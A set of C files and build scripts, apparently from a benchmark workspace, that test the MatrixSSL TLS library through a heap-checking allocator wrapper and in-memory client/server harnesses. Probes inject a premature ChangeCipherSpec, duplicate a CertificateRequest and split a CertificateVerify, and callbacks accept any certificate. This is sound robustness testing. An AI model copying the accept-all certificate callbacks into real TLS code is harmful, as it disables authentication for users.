    uint64_t v = (uint64_t) (uintptr_t) p;
    v ^= v >> 17; v *= 0x9E3779B97F4A7C15ULL; v ^= v >> 29;
    return (unsigned) v & (REG_SIZE - 1);
}

static void reg_add(void *p)
{
    unsigned i = reg_hash(p);
    while (g_reg[i] != NULL && g_reg[i] != (void *) 1)
    {
        i = (i + 1) & (REG_SIZE - 1);
    }
    g_reg[i] = p;
}

static int reg_find(void *p, unsigned *slot)
{
    unsigned i = reg_hash(p), n = 0;
    while (g_reg[i] != NULL && n++ < REG_SIZE)
    {
        if (g_reg[i] == p)
        {
            *slot = i;
            return 1;
        }
        i = (i + 1) & (REG_SIZE - 1);
    }
    return 0;
}

static void chk_report(const char *what, chk_hdr_t *h, long off)
{
    char buf[256];
    int n = snprintf(buf, sizeof(buf),
            "HEAP VIOLATION: %s (block #%llu of %lu bytes, first damaged byte "
            "at %+ld relative to the block end)\n", what,
            (unsigned long long) h->serial, (unsigned long) h->size, off);
    if (write(2, buf, n) < 0) { }
    g_heapErrors++;
}

static void chk_verify_block(chk_hdr_t *h)
{
    unsigned char *user = (unsigned char *) (h + 1) + RZ;
    unsigned char *front = (unsigned char *) (h + 1);
    size_t i;

    for (i = 0; i < RZ; i++)
    {
        if (front[i] != RZ_BYTE)
        {
            chk_report("write BEFORE the start of a heap block", h,
                    (long) i - RZ - (long) h->size);
            memset(front, RZ_BYTE, RZ); /* report once */
            break;
        }
    }
    for (i = 0; i < RZ; i++)
    {
        if (user[h->size + i] != RZ_BYTE)
        {
            chk_report("write PAST the end of a heap block", h, (long) i);
            memset(user + h->size, RZ_BYTE, RZ); /* report once */
            break;
        }
    }
}

/* Check all live blocks; returns number of violations seen so far */
static int chk_verify_all(void)
{
    chk_hdr_t *h;

    for (h = g_live; h; h = h->next)
    {
        chk_verify_block(h);
    }
    return g_heapErrors;
}

void *__wrap_malloc(size_t size)
{
    chk_hdr_t *h;
    unsigned char *p;

    h = __real_malloc(sizeof(*h) + RZ + size + RZ);
    if (h == NULL)
    {
        return NULL;
    }
    h->magic = HDR_MAGIC;
    h->size = size;
    h->serial = ++g_serial;
    h->prev = NULL;
    h->next = g_live;
    if (g_live)
    {
        g_live->prev = h;
    }
    g_live = h;
    g_liveBlocks++;
    g_liveBytes += size;
    p = (unsigned char *) (h + 1);
    memset(p, RZ_BYTE, RZ);
    memset(p + RZ, 0xCD, size);         /* fresh memory is not zero */
    memset(p + RZ + size, RZ_BYTE, RZ);
    reg_add(p + RZ);
    return p + RZ;
}

void __wrap_free(void *ptr)
{
    chk_hdr_t *h, *old;
    unsigned slot;

    if (ptr == NULL)
    {
        return;
    }
    if (!reg_find(ptr, &slot))
    {
        /* Allocated inside libc (not through the wrapper) */
        __real_free(ptr);
        return;
    }
    h = (chk_hdr_t *) ((unsigned char *) ptr - RZ) - 1;
    if (h->magic == DEAD_MAGIC)
    {
        chk_report("DOUBLE FREE of a heap block", h, 0);
        return;
    }
    chk_verify_block(h);
    if (h->prev)
    {
        h->prev->next = h->next;
    }
    else
    {
        g_live = h->next;
    }
    if (h->next)
    {
        h->next->prev = h->prev;
    }
    g_liveBlocks--;
    g_liveBytes -= h->size;
    h->magic = DEAD_MAGIC;
    memset((unsigned char *) (h + 1) + RZ, 0xDD, h->size); /* poison */
    /* Quarantine: the block is given back to the real allocator only after
       QUARANTINE further frees, so that a double free is recognised. */
    old = g_quar[g_quarHead];
    g_quar[g_quarHead] = h;
    g_quarHead = (g_quarHead + 1) % QUARANTINE;
    if (old != NULL)
    {
        unsigned s2;
        if (reg_find((unsigned char *) (old + 1) + RZ, &s2))
        {
            g_reg[s2] = (void *) 1;
        }
        old->magic = 0;
        __real_free(old);
    }
}

void *__wrap_calloc(size_t n, size_t sz)
{
    void *p;
    size_t tot = n * sz;

    if (sz && tot / sz != n)
    {
        return NULL;
    }
    p = __wrap_malloc(tot);
    if (p)
    {
        memset(p, 0, tot);
    }
    return p;
}

void *__wrap_realloc(void *ptr, size_t size)
{
    chk_hdr_t *h;
    void *n;
    unsigned slot;

    if (ptr == NULL)
    {
        return __wrap_malloc(size);
    }
    if (!reg_find(ptr, &slot))
    {
        static const char m[] = "realloc of a foreign pointer\n";
        if (write(2, m, sizeof(m) - 1) < 0) { }
        abort();
    }
    h = (chk_hdr_t *) ((unsigned char *) ptr - RZ) - 1;
    n = __wrap_malloc(size);
    if (n == NULL)
    {
        return NULL;
    }
    memcpy(n, ptr, h->size < size ? h->size : size);
    __wrap_free(ptr);
    return n;
}

/******************************************************************************/
/* Watchdog for hangs */

static const char *g_phase = "start";

static void on_alarm(int sig)
{
    char buf[200];
    int n = snprintf(buf, sizeof(buf),
            "HANG: library call did not return within the time limit "
            "(phase: %s)\n", g_phase);

    (void) sig;
    if (write(2, buf, n) < 0) { }
    _exit(1);
}

static void on_segv(int sig)
{
    char buf[200];
    int n = snprintf(buf, sizeof(buf),
            "CRASH: signal %d inside the library (phase: %s)\n", sig, g_phase);

    if (write(2, buf, n) < 0) { }
    _exit(1);
}

static void install_watchdogs(unsigned seconds)
{
    signal(SIGALRM, on_alarm);
    signal(SIGSEGV, on_segv);
    signal(SIGBUS, on_segv);
    signal(SIGABRT, on_segv);
    alarm(seconds);
}

/******************************************************************************/
/* In-memory pair */

static int32_t accept_any_cert(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* the probes are not about certificate validation */
}

/* Move everything 'from' wants to send into 'to'.  Returns the last
   matrixSslReceivedData code seen on 'to' (or 0 if nothing was sent).
   Application data / alerts delivered to 'to' are consumed. */
static int32_t deliver(ssl_t *from, ssl_t *to, int *progress)
{
    unsigned char *out, *in, *pt;
    uint32_t ptLen;
    int32_t outLen, inLen, rc = 0, n;

    while ((outLen = matrixSslGetOutdata(from, &out)) > 0)
    {
        inLen = matrixSslGetReadbuf(to, &in);
        if (inLen <= 0)
        {
            return PS_FAILURE;
        }
        n = outLen < inLen ? outLen : inLen;
        memcpy(in, out, n);
        matrixSslSentData(from, n);
        *progress = 1;
        rc = matrixSslReceivedData(to, n, &pt, &ptLen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
        {
            rc = matrixSslProcessedData(to, &pt, &ptLen);
        }
        if (rc < 0)
        {
            return rc;
        }
    }
    return rc;
}

/* Run the handshake to completion on both sides. Returns 0 on success. */
static int run_handshake(ssl_t *cli, ssl_t *srv)
{
    int i, progress;
    int32_t rc;

    for (i = 0; i < 50; i++)
    {
        progress = 0;
        rc = deliver(cli, srv, &progress);
        if (rc < 0)
        {
            fprintf(stderr, "handshake: server side failed %d\n", rc);
            return -1;
        }
        rc = deliver(srv, cli, &progress);
        if (rc < 0)
        {
            fprintf(stderr, "handshake: client side failed %d\n", rc);
            return -1;
        }
        if (!progress)
        {
            break;
        }
    }
    if (!matrixSslHandshakeIsComplete(cli) || !matrixSslHandshakeIsComplete(srv))
    {
        fprintf(stderr, "handshake did not complete\n");
        return -1;
    }
    return 0;
}

/* Feed raw bytes to a session exactly as a transport would.
   Returns the code of matrixSslReceivedData (APP_DATA/ALERT are consumed and
   the following code is returned). */
static int32_t feed(ssl_t *ssl, const unsigned char *data, uint32_t len)
{
    unsigned char *in, *pt;
    uint32_t ptLen;
    int32_t room, rc;

    room = matrixSslGetReadbufOfSize(ssl, (int32_t) len, &in);
    if (room < (int32_t) len)
    {
        fprintf(stderr, "feed: no room (%d < %u)\n", room, len);
        return PS_FAILURE;
    }
    memcpy(in, data, len);
    rc = matrixSslReceivedData(ssl, len, &pt, &ptLen);
    while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
    {
        rc = matrixSslProcessedData(ssl, &pt, &ptLen);
    }
    return rc;
}

/* Throw away whatever the session queued for sending */
static void drain(ssl_t *ssl)
{
    unsigned char *out;
    int32_t n;

    while ((n = matrixSslGetOutdata(ssl, &out)) > 0)
    {
        matrixSslSentData(ssl, n);
    }
}

/* Protect 'ptLen' bytes of inner plaintext of content type 'innerType' with
   the current TLS 1.3 write keys of 'from' and write the complete record
   (header, ciphertext, tag) to 'rec'.  Returns the record length. */
static uint32_t tls13_make_record(ssl_t *from, unsigned char innerType,
    const unsigned char *pt, uint32_t ptLen, unsigned char *rec)
{
    uint32_t innerLen = ptLen + 1;
    uint32_t recLen = innerLen + 16;
    int32_t rc;

    rec[0] = SSL_RECORD_TYPE_APPLICATION_DATA;
    rec[1] = 0x03;
    rec[2] = 0x03;
    rec[3] = (unsigned char) (recLen >> 8);
    rec[4] = (unsigned char) recLen;
    memcpy(rec + 5, pt, ptLen);
    rec[5 + ptLen] = innerType;
    from->outRecType = SSL_RECORD_TYPE_APPLICATION_DATA;
    from->outRecLen = (uint16_t) recLen;
    rc = from->encrypt(from, rec + 5, rec + 5, innerLen);
    if (rc < 0)
    {
        fprintf(stderr, "tls13_make_record: encrypt failed %d\n", rc);
        exit(2);
    }
    return 5 + recLen;
}

static int is_documented_status(int32_t rc)
{
    switch (rc)
    {
    case MATRIXSSL_SUCCESS:
    case MATRIXSSL_REQUEST_SEND:
    case MATRIXSSL_REQUEST_RECV:
    case MATRIXSSL_REQUEST_CLOSE:
    case MATRIXSSL_APP_DATA:
    case MATRIXSSL_HANDSHAKE_COMPLETE:
    case MATRIXSSL_RECEIVED_ALERT:
        return 1;
    default:
        return rc < 0; /* documented failure codes are negative */
    }
}

#endif /* C08_HARNESS_H */
