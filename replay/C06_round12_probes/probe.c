/* Side-observation probes for C06 on the UNMODIFIED tree. See NOTES.md */
#ifndef _POSIX_C_SOURCE
# define _POSIX_C_SOURCE 200112L
#endif

#include "matrixssl/matrixsslImpl.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testkeys/PSK/psk.h"

typedef struct
{
    ssl_t *ssl;
    const char *name;
    int complete;           /* MATRIXSSL_HANDSHAKE_COMPLETE seen */
    int alertSent;          /* -1 or description of an alert record it queued */
    int alertRecv;          /* -1 or description of a received alert */
    int failed;             /* negative API return code */
} peer_t;

static unsigned char g_app[] = "ping";

#define MAXMSG 16
typedef struct
{
    unsigned char buf[32768];
    int len;
    int nmsg;
    int off[MAXMSG];        /* offset of each handshake message */
    int mlen[MAXMSG];       /* length including the 4 byte header */
} hsflight_t;

/* Strip the record headers of a plaintext handshake flight, split it into
   handshake messages */
static int splitFlight(const unsigned char *in, int inLen, hsflight_t *f)
{
    int i = 0, p;

    memset(f, 0, sizeof(*f));
    while (i + 5 <= inLen)
    {
        int rlen = (in[i + 3] << 8) | in[i + 4];
        if (in[i] != 22 || i + 5 + rlen > inLen ||
            f->len + rlen > (int) sizeof(f->buf))
        {
            return -1;
        }
        memcpy(f->buf + f->len, in + i + 5, rlen);
        f->len += rlen;
        i += 5 + rlen;
    }
    if (i != inLen)
    {
        return -1;
    }
    p = 0;
    while (p + 4 <= f->len && f->nmsg < MAXMSG)
    {
        int l = (f->buf[p + 1] << 16) | (f->buf[p + 2] << 8) | f->buf[p + 3];
        if (p + 4 + l > f->len)
        {
            return -1;
        }
        f->off[f->nmsg] = p;
        f->mlen[f->nmsg] = 4 + l;
        f->nmsg++;
        p += 4 + l;
    }
    return (p == f->len) ? 0 : -1;
}

static int putRecord(unsigned char *out, const unsigned char *msg, int len)
{
    out[0] = 22; out[1] = 3; out[2] = 3;
    out[3] = (len >> 8) & 0xff; out[4] = len & 0xff;
    memcpy(out + 5, msg, len);
    return 5 + len;
}

/* Give len bytes to a peer.  Returns 0, or -1 on an API error */
static int feed(peer_t *to, const unsigned char *data, int len)
{
    unsigned char *buf, *pt;
    uint32 ptLen;
    int32 n, rc;

    while (len > 0)
    {
        n = matrixSslGetReadbuf(to->ssl, &buf);
        if (n <= 0)
        {
            to->failed = n ? n : -1;
            return -1;
        }
        if (n > len)
        {
            n = len;
        }
        memcpy(buf, data, n);
        data += n;
        len -= n;
        rc = matrixSslReceivedData(to->ssl, n, &pt, &ptLen);
        for (;; )
        {
            if (rc < 0)
            {
                to->failed = rc;
                return -1;
            }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                to->complete = 1;
                break;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                to->alertRecv = pt[1];
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_APP_DATA)
            {
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                continue;
            }
            break; /* REQUEST_SEND, REQUEST_RECV, SUCCESS */
        }
    }
    return 0;
}

/* Take what a peer wants to send.  Returns the length copied to out */
static int drain(peer_t *from, unsigned char *out, int outSize)
{
    unsigned char *buf;
    int32 n, rc;
    int total = 0;

    while ((n = matrixSslGetOutdata(from->ssl, &buf)) > 0)
    {
        if (total + n > outSize)
        {
            from->failed = -1;
            return total;
        }
        if (buf[0] == 21)
        {
            /* an alert record; in the clear it carries level, description */
            from->alertSent = (n >= 7 && buf[3] == 0 && buf[4] == 2) ?
                buf[6] : 256;
        }
        memcpy(out + total, buf, n);
        total += n;
        rc = matrixSslSentData(from->ssl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            from->complete = 1;
        }
        if (rc < 0)
        {
            from->failed = rc;
            break;
        }
        if (rc == MATRIXSSL_REQUEST_CLOSE)
        {
            break;
        }
    }
    return total;
}

static int stopped(peer_t *p)
{
    return p->failed || p->alertSent >= 0 || p->alertRecv >= 0;
}


static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* sequencing probe: certificate problems are not the point */
}

static unsigned char W1[65536], W2[65536];

static void pump(peer_t *cli, peer_t *srv)
{
    int rounds, len;
    for (rounds = 0; rounds < 10; rounds++)
    {
        int moved = 0;
        len = drain(cli, W1, sizeof(W1));
        if (len > 0) { moved = 1; if (!stopped(srv)) feed(srv, W1, len); }
        len = drain(srv, W1, sizeof(W1));
        if (len > 0) { moved = 1; if (!stopped(cli)) feed(cli, W1, len); }
        if (!moved) break;
    }
}

static void report(peer_t *cli, peer_t *srv)
{
    printf("  client: complete=%d alertSent=%d alertRecv=%d rc=%d hsState=%d\n",
        cli->complete, cli->alertSent, cli->alertRecv, cli->failed,
        cli->ssl->hsState);
    printf("  server: complete=%d alertSent=%d alertRecv=%d rc=%d hsState=%d\n",
        srv->complete, srv->alertSent, srv->alertRecv, srv->failed,
        srv->ssl->hsState);
}

static int mkpair(peer_t *cli, peer_t *srv, sslKeys_t *keys, int clientAuth,
    int cliTls13, psCipher16_t suite)
{
    psProtocolVersion_t v12[1] = { v_tls_1_2 };
    psProtocolVersion_t v13_12[2] = { v_tls_1_3, v_tls_1_2 };
    sslSessOpts_t copts, sopts;
    psCipher16_t suites[1];

    suites[0] = suite;
    memset(cli, 0, sizeof(*cli)); memset(srv, 0, sizeof(*srv));
    cli->name = "client"; srv->name = "server";
    cli->alertSent = cli->alertRecv = srv->alertSent = srv->alertRecv = -1;
    memset(&copts, 0, sizeof(copts)); memset(&sopts, 0, sizeof(sopts));
    if (cliTls13)
        matrixSslSessOptsSetClientTlsVersions(&copts, v13_12, 2);
    else
        matrixSslSessOptsSetClientTlsVersions(&copts, v12, 1);
    matrixSslSessOptsSetServerTlsVersions(&sopts, v12, 1);
    if (matrixSslNewServerSession(&srv->ssl, keys, clientAuth ? certCb : NULL,
            &sopts) < 0)
        return -1;
    if (matrixSslNewClientSession(&cli->ssl, keys, NULL, suites,
            cliTls13 ? 0 : 1, certCb, NULL, NULL, NULL, &copts)
            != MATRIXSSL_REQUEST_SEND)
        return -1;
    return 0;
}

/* A: CertificateRequest sent twice (server transcript re-seeded) */
static int probeDupCertReq(sslKeys_t *keys, int dup)
{
    peer_t cli, srv;
    hsflight_t ch, fl;
    int len, len2 = 0, i, k, res = -1;

    if (mkpair(&cli, &srv, keys, 1, 0, TLS_RSA_WITH_AES_128_CBC_SHA256) < 0)
        return -1;
    len = drain(&cli, W1, sizeof(W1));
    if (splitFlight(W1, len, &ch) < 0 || feed(&srv, W1, len) < 0) goto out;
    len = drain(&srv, W1, sizeof(W1));
    if (splitFlight(W1, len, &fl) < 0) goto out;
    printf("  server flight:");
    sslInitHSHash(srv.ssl);
    sslUpdateHSHash(srv.ssl, ch.buf, ch.len);
    for (i = 0; i < fl.nmsg; i++)
    {
        int n = (fl.buf[fl.off[i]] == 13) ? dup : 1;
        for (k = 0; k < n; k++)
        {
            printf(" %d", fl.buf[fl.off[i]]);
            len2 += putRecord(W2 + len2, fl.buf + fl.off[i], fl.mlen[i]);
            sslUpdateHSHash(srv.ssl, fl.buf + fl.off[i], fl.mlen[i]);
        }
    }
    printf("  (2=SH 11=Cert 13=CertReq 14=SHD)\n");
    feed(&cli, W2, len2);
    pump(&cli, &srv);
    report(&cli, &srv);
    res = (cli.complete && srv.complete);
out:
    matrixSslDeleteSession(cli.ssl); matrixSslDeleteSession(srv.ssl);
    return res;
}

/* B: a ChangeCipherSpec record before the ServerHello; the client offers
   TLS 1.3 and 1.2, the server negotiates TLS 1.2 */
static int probeEarlyCcs(sslKeys_t *keys, int inject)
{
    static const unsigned char ccs[6] = { 20, 3, 3, 0, 1, 1 };
    peer_t cli, srv;
    int len, res = -1;

    if (mkpair(&cli, &srv, keys, 0, 1, 0) < 0)
        return -1;
    len = drain(&cli, W1, sizeof(W1));
    if (feed(&srv, W1, len) < 0) goto out;
    if (inject)
    {
        feed(&cli, ccs, sizeof(ccs));
        printf("  after the injected CCS: client rc=%d alertSent(queued)=%d\n",
            cli.failed, cli.alertSent);
    }
    pump(&cli, &srv);
    report(&cli, &srv);
    printf("  negotiated: %s\n",
        NGTD_VER(cli.ssl, v_tls_1_2) ? "TLS 1.2" : "other");
    res = (cli.complete && srv.complete);
out:
    matrixSslDeleteSession(cli.ssl); matrixSslDeleteSession(srv.ssl);
    return res;
}

/* C: the client's CertificateVerify split over two records (legal) */
static int probeFragCertVerify(sslKeys_t *keys, int split)
{
    peer_t cli, srv;
    int len, len2 = 0, i, res = -1;

    if (mkpair(&cli, &srv, keys, 1, 0, TLS_RSA_WITH_AES_128_CBC_SHA256) < 0)
        return -1;
    len = drain(&cli, W1, sizeof(W1));
    if (feed(&srv, W1, len) < 0) goto out;
    len = drain(&srv, W1, sizeof(W1));
    if (feed(&cli, W1, len) < 0) goto out;
    len = drain(&cli, W1, sizeof(W1)); /* Cert, CKE, CertVerify, CCS, Fin */
    i = 0;
    while (i + 5 <= len)
    {
        int rlen = (W1[i + 3] << 8) | W1[i + 4];
        if (split && W1[i] == 22 && W1[i + 5] == 15 && rlen > 20)
        {
            int a = 10;
            printf("  CertificateVerify (%d bytes) sent as records of %d + %d\n",
                rlen, a, rlen - a);
            len2 += putRecord(W2 + len2, W1 + i + 5, a);
            len2 += putRecord(W2 + len2, W1 + i + 5 + a, rlen - a);
        }
        else
        {
            memcpy(W2 + len2, W1 + i, 5 + rlen);
            len2 += 5 + rlen;
        }
        i += 5 + rlen;
    }
    feed(&srv, W2, len2);
    pump(&cli, &srv);
    report(&cli, &srv);
    res = (cli.complete && srv.complete);
out:
    matrixSslDeleteSession(cli.ssl); matrixSslDeleteSession(srv.ssl);
    return res;
}

int main(int argc, char **argv)
{
    sslKeys_t *keys = NULL;
    const char *w = argc > 1 ? argv[1] : "/tmp/seed12_C06";
    char cert[512], key[512], ca[512];
    int r;

    snprintf(cert, sizeof(cert), "%s/testkeys/RSA/2048_RSA.pem", w);
    snprintf(key, sizeof(key), "%s/testkeys/RSA/2048_RSA_KEY.pem", w);
    snprintf(ca, sizeof(ca), "%s/testkeys/RSA/2048_RSA_CA.pem", w);
    if (matrixSslOpen() < 0 || matrixSslNewKeys(&keys, NULL) < 0 ||
        matrixSslLoadRsaKeys(keys, cert, key, NULL, ca) < 0)
    {
        printf("cannot load keys\n");
        return 2;
    }
    printf("[A0] client auth, CertificateRequest once (control)\n");
    r = probeDupCertReq(keys, 1);
    printf("  => %s\n", r == 1 ? "completed" : "not completed");
    printf("[A1] client auth, CertificateRequest sent twice\n");
    r = probeDupCertReq(keys, 2);
    printf("  => %s\n", r == 1 ? "COMPLETED (repeated message accepted)" :
        "not completed");
    printf("[B0] client offers TLS 1.3+1.2, server TLS 1.2 (control)\n");
    r = probeEarlyCcs(keys, 0);
    printf("  => %s\n", r == 1 ? "completed" : "not completed");
    printf("[B1] same, ChangeCipherSpec injected before the ServerHello\n");
    r = probeEarlyCcs(keys, 1);
    printf("  => %s\n", r == 1 ? "COMPLETED (premature CCS ignored)" :
        "not completed");
    printf("[C0] client auth, unfragmented CertificateVerify (control)\n");
    r = probeFragCertVerify(keys, 0);
    printf("  => %s\n", r == 1 ? "completed" : "not completed");
    printf("[C1] client auth, CertificateVerify split over two records\n");
    r = probeFragCertVerify(keys, 1);
    printf("  => %s\n", r == 1 ? "completed" :
        "NOT COMPLETED (legal fragmentation refused)");
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    return 0;
}
