#!/bin/sh
set -e
W=${1:-/tmp/seed12_C06}
cc -O0 -g -Wall -Wno-stringop-overread -Wno-unused-variable -Wno-unused-function \
   -I"$W" -I"$W/core/config" -I"$W/core/include" -I"$W/core/osdep/include" \
   -I"$W/core/include/sfzcl" -DUSE_CL_PKCS -DUSE_CL_CERTLIB \
   -o "$W/_seed/side_probes/probe" "$W/_seed/side_probes/probe.c" \
   "$W/matrixssl/libssl_s.a" "$W/crypto/libcrypt_s.a" "$W/core/libcore_s.a" -lpthread
