/*
 * In-memory client/server pair for MatrixSSL, driven only through the public
 * buffer API (matrixSslGetReadbuf / matrixSslReceivedData / matrixSslGetOutdata
 * / matrixSslSentData / matrixSslProcessedData).  Shared by demo.c and
 * probe_side.c.
 */
#ifndef SEED_HARNESS_H
#define SEED_HARNESS_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"

#define SINK_MAX (1 << 20)
#define WIRE_MAX (1 << 18)

typedef struct
{
    ssl_t *ssl;
    const char *name;
    unsigned char *sink;    /* every application byte delivered so far */
    size_t sinkLen;
    int alerts;             /* number of alerts received */
    int lastAlertLevel;
    int lastAlertDesc;
    int err;                /* first negative return code seen */
    int sentAlert;          /* this side queued a fatal alert (REQUEST_SEND
                               after an error in received data) */
} ep_t;

static const char *g_root = ".";
static sslKeys_t *g_srvKeys, *g_cliKeys;

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* accept: the demo is about the record layer only */
}

static void die(const char *what, int rc)
{
    fprintf(stderr, "harness failure: %s (rc=%d)\n", what, rc);
    exit(2);
}

static void harnessOpen(const char *root)
{
    char cert[512], key[512], ca[512];
    int rc;

    g_root = root;
    if ((rc = matrixSslOpen()) < 0)
    {
        die("matrixSslOpen", rc);
    }
    snprintf(cert, sizeof(cert), "%s/testkeys/RSA/2048_RSA.pem", root);
    snprintf(key, sizeof(key), "%s/testkeys/RSA/2048_RSA_KEY.pem", root);
    snprintf(ca, sizeof(ca), "%s/testkeys/RSA/2048_RSA_CA.pem", root);
    if (matrixSslNewKeys(&g_srvKeys, NULL) < 0 ||
        matrixSslNewKeys(&g_cliKeys, NULL) < 0)
    {
        die("matrixSslNewKeys", -1);
    }
    if ((rc = matrixSslLoadRsaKeys(g_srvKeys, cert, key, NULL, NULL)) < 0)
    {
        die("load server keys", rc);
    }
    if ((rc = matrixSslLoadRsaKeys(g_cliKeys, NULL, NULL, NULL, ca)) < 0)
    {
        die("load client CA", rc);
    }
}

static void epInit(ep_t *e, const char *name)
{
    memset(e, 0, sizeof(*e));
    e->name = name;
    e->sink = malloc(SINK_MAX);
}

static void epFree(ep_t *e)
{
    if (e->ssl)
    {
        matrixSslDeleteSession(e->ssl);
    }
    free(e->sink);
    memset(e, 0, sizeof(*e));
}

/* Hand `len` bytes "from the network" to e, collecting whatever the library
   delivers to the application.  Returns 0, or -1 once the library reports an
   error for this connection. */
static int feed(ep_t *e, const unsigned char *data, size_t len)
{
    while (len > 0)
    {
        unsigned char *rb, *pt;
        uint32 ptLen;
        int32 sz, rc;
        size_t n;

        sz = matrixSslGetReadbuf(e->ssl, &rb);
        if (sz <= 0)
        {
            if (!e->err)
            {
                e->err = sz ? sz : -1;
            }
            return -1;
        }
        n = len < (size_t) sz ? len : (size_t) sz;
        memcpy(rb, data, n);
        data += n;
        len -= n;
        rc = matrixSslReceivedData(e->ssl, (uint32) n, &pt, &ptLen);
        for (;; )
        {
            if (rc < 0)
            {
                if (!e->err)
                {
                    e->err = rc;
                }
                return -1;
            }
            if (rc == MATRIXSSL_APP_DATA)
            {
                if (e->sinkLen + ptLen > SINK_MAX)
                {
                    die("sink overflow", 0);
                }
                memcpy(e->sink + e->sinkLen, pt, ptLen);
                e->sinkLen += ptLen;
                rc = matrixSslProcessedData(e->ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                e->alerts++;
                e->lastAlertLevel = pt[0];
                e->lastAlertDesc = pt[1];
                rc = matrixSslProcessedData(e->ssl, &pt, &ptLen);
                continue;
            }
            break;
        }
    }
    return 0;
}

/* Take everything `from` wants to send off its out buffer into wire[]. */
static size_t drain(ep_t *from, unsigned char *wire, size_t max)
{
    size_t total = 0;
    unsigned char *buf;
    int32 n;

    while ((n = matrixSslGetOutdata(from->ssl, &buf)) > 0)
    {
        if (total + n > max)
        {
            die("wire overflow", 0);
        }
        memcpy(wire + total, buf, n);
        total += n;
        matrixSslSentData(from->ssl, n);
    }
    return total;
}

static unsigned char g_wire[WIRE_MAX];

/* Move pending output of `from` to `to` unmodified.  Returns bytes moved. */
static size_t flush(ep_t *from, ep_t *to)
{
    size_t n = drain(from, g_wire, sizeof(g_wire));

    if (n > 0)
    {
        feed(to, g_wire, n);
    }
    return n;
}

/* Create a client/server pair and run the handshake to completion. */
static int connectPair(ep_t *c, ep_t *s, int32 versionFlag,
    psCipher16_t suite, sslSessOpts_t *cliExtra)
{
    sslSessOpts_t co, so;
    int i, rc;

    epInit(c, "client");
    epInit(s, "server");
    memset(&co, 0, sizeof(co));
    memset(&so, 0, sizeof(so));
    if (cliExtra)
    {
        co = *cliExtra;
    }
    co.versionFlag = versionFlag;
    so.versionFlag = versionFlag;
    rc = matrixSslNewClientSession(&c->ssl, g_cliKeys, NULL,
        suite ? &suite : NULL, suite ? 1 : 0, certCb, NULL, NULL, NULL, &co);
    if (rc < 0)
    {
        fprintf(stderr, "matrixSslNewClientSession: %d\n", rc);
        return -1;
    }
    rc = matrixSslNewServerSession(&s->ssl, g_srvKeys, NULL, &so);
    if (rc < 0)
    {
        fprintf(stderr, "matrixSslNewServerSession: %d\n", rc);
        return -1;
    }
    for (i = 0; i < 20; i++)
    {
        size_t a = flush(c, s);
        size_t b = flush(s, c);

        if (c->err || s->err)
        {
            fprintf(stderr, "handshake error: client %d server %d\n",
                c->err, s->err);
            return -1;
        }
        if (a == 0 && b == 0)
        {
            break;
        }
    }
    if (!matrixSslHandshakeIsComplete(c->ssl) ||
        !matrixSslHandshakeIsComplete(s->ssl))
    {
        fprintf(stderr, "handshake did not complete\n");
        return -1;
    }
    if (c->sinkLen || s->sinkLen)
    {
        fprintf(stderr, "application data before any was sent?\n");
        return -1;
    }
    return 0;
}

/* Application on `from` submits len bytes (one record, in-situ API).
   Returns 0 or a negative library code. */
static int appSend(ep_t *from, const unsigned char *data, uint32 len)
{
    unsigned char *wb;
    int32 avail, rc;

    avail = matrixSslGetWritebuf(from->ssl, &wb, len ? len : 1);
    if (avail < 0 || (uint32) avail < len)
    {
        return avail < 0 ? avail : -1;
    }
    memcpy(wb, data, len);
    rc = matrixSslEncodeWritebuf(from->ssl, len);
    return rc < 0 ? rc : 0;
}

static void fillPattern(unsigned char *p, size_t len, unsigned seed)
{
    size_t i;

    for (i = 0; i < len; i++)
    {
        /* never 0x00 / 0x17 runs by accident, but do include zero bytes */
        p[i] = (unsigned char) ((i * 131u + seed * 29u + (i >> 8)) & 0xff);
    }
}

#endif /* SEED_HARNESS_H */
