#!/bin/sh
# usage: sh build.sh <worktree-root>
# Builds <root>/_seed/demo (and <root>/_seed/probe_side when the source is
# there) against the static libraries of the worktree.
set -e
ROOT=${1:-/tmp/seed12_C02}
HERE=$(cd "$(dirname "$0")" && pwd)
CC=${CC:-cc}
INC="-I$ROOT -I$ROOT/core/config -I$ROOT/core/include -I$ROOT/core/osdep/include -I$ROOT/core/include/sfzcl"
LIBS="$ROOT/matrixssl/libssl_s.a $ROOT/crypto/libcrypt_s.a $ROOT/core/libcore_s.a"
mkdir -p "$ROOT/_seed"
$CC -O1 -g -Wall -Wno-unused-function $INC -I"$HERE" "$HERE/demo.c" $LIBS -lpthread -o "$ROOT/_seed/demo"
if [ -f "$HERE/probe_side.c" ]; then
    $CC -O1 -g -Wall -Wno-unused-function $INC -I"$HERE" "$HERE/probe_side.c" $LIBS -lpthread -o "$ROOT/_seed/probe_side"
fi
