/*
 * Side-observation probes for C02 on the UNMODIFIED library (they do not
 * depend on the seeded change).  Each probe prints what it saw; the program
 * exits 1 if at least one probe shows behaviour that conflicts with the
 * property text, 0 otherwise.
 */
#include "harness.h"

static int g_findings;
static unsigned char wire[WIRE_MAX];

static void mkPair(ep_t *c, ep_t *s, int32 ver, psCipher16_t suite)
{
    if (connectPair(c, s, ver, suite, NULL) < 0)
    {
        exit(2);
    }
}

static size_t oneWireRecord(ep_t *tx, const char *text)
{
    if (appSend(tx, (const unsigned char *) text, (uint32) strlen(text)) < 0)
    {
        die("appSend", -1);
    }
    return drain(tx, wire, sizeof(wire));
}

static void showState(const char *tag, ep_t *rx)
{
    unsigned char *ob;
